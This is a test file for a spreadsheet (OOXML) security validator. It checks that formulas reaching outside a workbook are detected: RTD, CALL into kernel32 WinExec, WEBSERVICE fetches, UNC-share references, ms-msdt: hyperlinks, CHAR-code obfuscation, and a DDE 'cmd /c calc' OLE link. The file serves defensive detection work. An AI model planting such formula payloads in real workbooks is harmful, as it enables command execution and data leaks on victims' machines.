import { describe, expect, it } from 'vitest';
import {
  hyperlinkTargets,
  joinedConstants,
  reachingCall,
  referencedPath,
} from '../../../../shared/validation/ooxml/formula-calls.ts';
import { PackageInspection } from '../../../../shared/validation/ooxml/package-inspection.ts';
import { partCheckFor } from '../../../../shared/validation/ooxml/parts.ts';
import { Report } from '../../../../shared/validation/report.ts';

/** Worksheet functions that start a program or fetch a URL (shared/validation/ooxml/formula-calls.ts). */

describe('calls that reach outside the workbook', () => {
  it.each([
    ['RTD("x.server",,"t")', 'RTD', 'runs'],
    ['rtd ("x",,"t")', 'RTD', 'runs'],
    ['CALL("kernel32","WinExec","JCJ","calc",0)', 'CALL', 'runs'],
    ['REGISTER.ID("kernel32","WinExec")', 'REGISTER.ID', 'runs'],
    ['EVALUATE("R"&"TD(1)")', 'EVALUATE', 'runs'],
    ['FILES("\\\\host\\share\\*")', 'FILES', 'runs'],
    ['SEND.KEYS("%{F4}")', 'SEND.KEYS', 'runs'],
    ['1+_xlfn.WEBSERVICE("http://a.example/?"&A2)', 'WEBSERVICE', 'fetches'],
    ['_xlfn.image("https://a.example/p.png")', 'IMAGE', 'fetches'],
    ['IF(A1,_xlfn._xlws.FILTER(A:A,B:B),Image\n(A2))', 'IMAGE', 'fetches'],
    ['\'Run (2)\'!A1+RTD("x",,"y")', 'RTD', 'runs'],
    // A lone quote closes no name: what follows it is still read.
    ['A1&\'+CALL("k","W")', 'CALL', 'runs'],
  ])('%s calls %s', (formula, name, reach) => {
    expect(reachingCall(formula)).toEqual({ name, reach });
  });

  it.each([
    'SUM(A1:A9)',
    '"RTD(x)"&A1',
    'CONCAT("a""IMAGE(",B2)',
    'MYCALL(1)+IMAGES(2)+RTD2(3)',
    'HYPERLINK("https://www.miit.gov.cn/")',
    'RTD',
    // Sheets Excel named as copies of sheets called Run, Image, Files.
    "SUM('Run (2)'!A1:A3)+'Image (3)'!B2*'Bob''s Files (2)'!C1",
  ])('%s calls nothing that reaches out', (formula) => {
    expect(reachingCall(formula)).toBeUndefined();
  });

  it('finds one in any formula of a sheet, however the part is cut, and names the function', () => {
    const sheet =
      '<worksheet><sheetData><row r="1"><c r="A1"><f>SUM(A2:A3)</f></c></row></sheetData>' +
      '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>&#82;TD&#40;&quot;x&quot;,,&quot;y&quot;)=1</formula1></dataValidation></dataValidations></worksheet>';
    for (const size of [1, 5, 64]) {
      const report = new Report();
      const check = partCheckFor('xl/worksheets/sheet1.xml', new PackageInspection(report));
      for (let at = 0; at < sheet.length; at += size) check.write(Buffer.from(sheet.slice(at, at + size)));
      check.end();
      expect(report.findings.map((f) => [f.code, f.detail])).toEqual([
        ['OOXML_DDE', { where: 'xl/worksheets/sheet1.xml formula RTD' }],
      ]);
    }
  });

  it.each([
    ['xl/worksheets/sheet1.xml', `<oleObjects><oleObject progId="Package" link="cmd|' /c calc'!A0" shapeId="1025"/>`],
    ['xl/pivotCache/pivotCacheDefinition1.xml', '<cacheField name="x" formula="RTD(&quot;x&quot;,,1)"/>'],
    ['xl/pivotTables/pivotTable1.xml', '<calculatedItem formula="RTD(&quot;x&quot;,,1)"/>'],
  ])('reads the formulas in attributes of %s', (part, text) => {
    const report = new Report();
    const check = partCheckFor(part, new PackageInspection(report));
    check.write(Buffer.from(text));
    check.end();
    expect(report.findings.map((f) => f.code)).toEqual(['OOXML_DDE']);
  });

  it('refuses a fetching call as an outside resource, in a form control’s formula too', () => {
    const report = new Report();
    const check = partCheckFor('xl/ctrlProps/ctrlProp1.xml', new PackageInspection(report));
    check.write(
      Buffer.from('<formControlPr objectType="CheckBox" fmlaLink="_xlfn.WEBSERVICE(&quot;http://a/&quot;)"/>'),
    );
    check.end();
    expect(report.findings.map((f) => [f.code, f.detail])).toEqual([
      ['OOXML_EXTERNAL', { kind: 'formula WEBSERVICE', target: 'xl/ctrlProps/ctrlProp1.xml' }],
    ]);
  });

  it.each([
    ["'\\\\host\\share\\[b.xlsx]S'!A1", '\\\\host\\share\\[b.xlsx]S'],
    ["SUM('C:\\d\\[b.xlsx]S'!A1:A9)", 'C:\\d\\[b.xlsx]S'],
    ["'https://host/d/[b.xlsx]S'!$A$1", 'https://host/d/[b.xlsx]S'],
    ["'file:///C:/d/[b.xlsx]S'!A1", 'file:///C:/d/[b.xlsx]S'],
  ])('%s refers to the file %s', (formula, path) => {
    expect(referencedPath(formula)).toBe(path);
  });

  it.each(['SUBSTITUTE(A1,"\\","/")', 'SEARCH("https://",A1)', "'汇总表'!A1+Sheet2!B2", 'A:A/2'])(
    '%s refers to no file',
    (formula) => {
      expect(referencedPath(formula)).toBeUndefined();
    },
  );

  // Round 12: a path read as a share or a URL that starts with neither `\\` nor a scheme's `:/`.
  it.each([
    ["'//host/share/[b.xlsx]S'!A1", '//host/share/'],
    ["SUM('＼＼host＼share＼[b.xlsx]S'!A1:A3)", '\\\\host\\share\\'],
    ["'\u3000＼＼host＼share＼[b.xlsx]S'!A1", '\\\\host\\share\\'],
    ["'Ｃ：＼资料＼[表.xlsx]S'!A1", 'C:\\资料\\'],
    ["'ｈｔｔｐｓ：／／host／[b.xlsx]S'!A1", 'https://host/'],
    ['//host/share/[b.xlsx]S!A1', '//host/share/'],
    // As the part is read, a byte a character: the ideographic space's and full width's UTF-8.
    [Buffer.from("'\u3000＼＼host＼share＼[b.xlsx]S'!A1").toString('latin1'), '\\\\host\\share\\'],
  ])('%s refers to the file at %s, found by its book', (formula, path) => {
    expect(referencedPath(formula)).toBe(path);
  });

  it.each([
    "[1]Sheet1!A1+'[2]明细 表'!B2",
    '[b.xlsx]S!A1',
    "'..\\资料\\[表.xlsx]汇总'!A1",
    'SUM(表1[金额])+表1[[#This Row],[单价]]*2',
    'INDIRECT("\'//host/s/[b.xlsx]S\'!A1")',
    "'第[1]季度'!A1",
  ])('%s reaches no share or program', (formula) => {
    expect(referencedPath(formula)).toBeUndefined();
  });

  it('finds a sheet formula whose only sign of a path is its book’s bracket', () => {
    const report = new Report();
    const check = partCheckFor('xl/worksheets/sheet1.xml', new PackageInspection(report));
    check.write(
      Buffer.from('<sheetData><row r="1"><c r="A1"><f>\'＼＼host＼share＼[b.xlsx]S\'!A1</f></c></row></sheetData>'),
    );
    check.end();
    expect(report.findings.map((f) => [f.code, f.detail])).toEqual([
      ['OOXML_EXTERNAL', { kind: 'formula reference to another file', target: '\\\\host\\share\\' }],
    ]);
  });

  it.each([
    ['HYPERLINK("\\\\host\\x.xlsx","附件")', '\\\\host\\x.xlsx'],
    ['IF(A1,hyperlink ( " ms-msdt:x"),0)', 'ms-msdt:x'],
    ['"HYPERLINK(""x"")"&HYPERLINK("https://a.example/")', 'https://a.example/'],
    ['HYPERLINK("\\\\host\\"&A1)', '\\\\host\\'],
    ['HYPERLINK(CONCATENATE("\\\\host\\",A1))', '\\\\host\\'],
  ])('%s links to %s', (formula, target) => {
    expect(hyperlinkTargets(formula)).toEqual([{ from: 'literal', target }]);
  });

  it.each([
    'HYPERLINK(A1)',
    'HYPERLINK(B2,A2)',
    'HYPERLINK(\'网址 (2)\'!$B$2,"打开")',
    'HYPERLINK(VLOOKUP(A2,链接,2,FALSE),A2)',
    'HYPERLINK(IF(ISBLANK(A2),"",_xlfn.XLOOKUP(A2,B:B,C:C)))',
    'hyperlink(网址)',
    'HYPERLINK(TRIM(A2))',
  ])('%s links to a string the workbook holds', (formula) => {
    expect(hyperlinkTargets(formula)).toEqual([{ from: 'selected' }]);
  });

  it.each([
    'HYPERLINK("\\"&"\\srv\\s\\x")',
    'HYPERLINK(A1&A2)',
    'HYPERLINK(_xlfn.CONCAT("fi","le:///c:/x"))',
    'HYPERLINK(CHAR(92)&CHAR(92)&"srv\\x")',
    'HYPERLINK(SUBSTITUTE(A1,"/","\\"),"x")',
    'HYPERLINK("ms"&"-msdt:x")',
    'HYPERLINK(" file"&A1)',
    'HYPERLINK(INDEX(B:B,1)&"x")',
    'HYPERLINK(CONCATENATE(A1,"x"))',
    'HYPERLINK(CONCATENATE("fi","le:///c:/x"))',
    'HYPERLINK(CLEAN(A1))',
    '_xlfn.LET(_xlpm.t,CHAR(92)&CHAR(92)&"srv\\x",HYPERLINK(_xlpm.t))',
  ])('%s links to a target built from pieces', (formula) => {
    expect(hyperlinkTargets(formula).map((t) => t.from)).toEqual(['built']);
  });

  it.each([
    '"HYPERLINK(""x"")"',
    'HYPERLINK("#\'"&A2&"\'!A1",A2)',
    'HYPERLINK("https://www.miit.gov.cn/?id="&A2)',
    'HYPERLINK("mailto:"&B2,B2)',
    'HYPERLINK("附件/"&A2&".pdf")',
    'MYHYPERLINK(A1&A2)',
    'HYPERLINK(CONCATENATE("https://www.miit.gov.cn/?id=",A2),A2)',
    'HYPERLINK(_xlfn.CONCAT( "#汇总表!A",ROW()))',
  ])('%s has no target to judge', (formula) => {
    expect(hyperlinkTargets(formula)).toEqual([]);
  });
});

describe('constants a formula joins', () => {
  it.each([
    ['CHAR(92)&CHAR(92)&"srv\\x"', ['\\\\srv\\x'], undefined],
    ['"ms-msdt"&_xlfn.UNICHAR(58)&"-id x"', ['ms-msdt:-id x'], undefined],
    ['_xlfn.CONCAT(char (47),"/host",A2)', ['//host'], { text: '//host', coded: true }],
    ['CONCATENATE("fi","le:",A2)', ['file:'], { text: 'file:', coded: true }],
    ['CHAR(47)&A2', ['/'], { text: '/', coded: true }],
    ['"search-ms:"&A2', [], { text: 'search-ms:', coded: false }],
    ['A2&CHAR(10)&B2', ['\n'], undefined],
    ['IF(A2="","Re:Q3","x"&"y")', ['xy'], undefined],
    ['SUM(A1:A9)', [], undefined],
    // A name ending in CHAR is no character code.
    ['MYCHAR(92)&"x"', [], undefined],
  ])('%j', (formula, runs, lead) => {
    expect(joinedConstants(formula)).toEqual(lead ? { runs, lead } : { runs });
  });
});
